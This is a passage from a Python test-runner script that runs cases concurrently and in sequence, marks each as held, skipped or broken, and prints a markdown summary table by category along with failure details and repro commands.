    outcomes: list[Outcome] = []
    lock = threading.Lock()

    def done(outcome: Outcome) -> None:
        with lock:
            outcomes.append(outcome)
            if args.verbose or not (outcome.held or outcome.skipped):
                mark = "skip" if outcome.skipped else ("held" if outcome.held else "BROKE")
                print(f"[{len(outcomes):3d}/{len(chosen)}] {mark:5s} {outcome.case.category:8s} {outcome.case.name}"
                      f"  ({outcome.seconds:.1f} s)", flush=True)
                if not outcome.held and not outcome.skipped:
                    for problem in outcome.problems:
                        print(f"        - {problem}", flush=True)

    light = sorted((c for c in chosen if not c.heavy), key=lambda c: not c.slow)
    heavy = [c for c in chosen if c.heavy]
    try:
        TEMPLATE.path(20)  # made once, before the cases copy it
        with ThreadPoolExecutor(max_workers=max(args.jobs, 1)) as pool:
            for future in [pool.submit(try_case, c, base) for c in light]:
                done(future.result())
        for item in heavy:
            done(try_case(item, base))
    finally:
        if not args.keep:
            shutil.rmtree(base, ignore_errors=True)
    report(outcomes, time.monotonic() - started)
    return 0 if all(o.held or o.skipped for o in outcomes) else 1


def report(outcomes: list[Outcome], seconds: float) -> None:
    print()
    print("| Category | Tried | Held | Skipped |")
    print("| --- | ---: | ---: | ---: |")
    total = [0, 0, 0]
    for category in CATEGORIES:
        mine = [o for o in outcomes if o.case.category == category]
        if not mine:
            continue
        tried = [o for o in mine if not o.skipped]
        held = [o for o in tried if o.held]
        skipped = len(mine) - len(tried)
        total = [total[0] + len(tried), total[1] + len(held), total[2] + skipped]
        print(f"| {TITLES[category]} | {len(tried)} | {len(held)} | {skipped} |")
    print(f"| **all** | **{total[0]}** | **{total[1]}** | **{total[2]}** |")
    print(f"\n{len(outcomes)} cases in {seconds:.0f} s")
    broke = [o for o in outcomes if not o.held and not o.skipped]
    if broke:
        print("\nDid not hold:")
        for o in sorted(broke, key=lambda o: (CATEGORIES.index(o.case.category), o.case.name)):
            print(f"\n- [{TITLES[o.case.category]}] {o.case.name}")
            for problem in o.problems:
                print(f"    {problem}")
            if o.what:
                print(f"    first failing command: {o.what}")
            if o.repro:
                print(f"    repro: {o.repro}")
    for o in outcomes:
        if o.skipped:
            print(f"skipped: [{TITLES[o.case.category]}] {o.case.name}: {o.skipped}")


if __name__ == "__main__":
    sys.exit(main())
